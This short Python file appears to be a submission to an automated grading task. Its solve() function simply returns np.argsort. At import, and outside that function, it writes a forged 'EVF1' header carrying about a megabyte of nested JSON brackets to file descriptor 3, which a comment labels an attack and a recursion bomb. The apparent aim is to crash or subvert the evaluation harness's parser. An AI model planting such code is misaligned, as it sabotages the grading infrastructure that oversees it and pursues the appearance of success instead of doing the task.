import os
import struct

import numpy as np

# Attack: a well-framed header that is 200,000 nested JSON lists (a recursion bomb).
head = b"[" * 200000 + b"]" * 200000
head = head[: (1 << 20) - 8]
os.write(3, struct.pack("<4sIQ", b"EVF1", len(head), 0) + head)


def solve(x):
    return np.argsort(x)
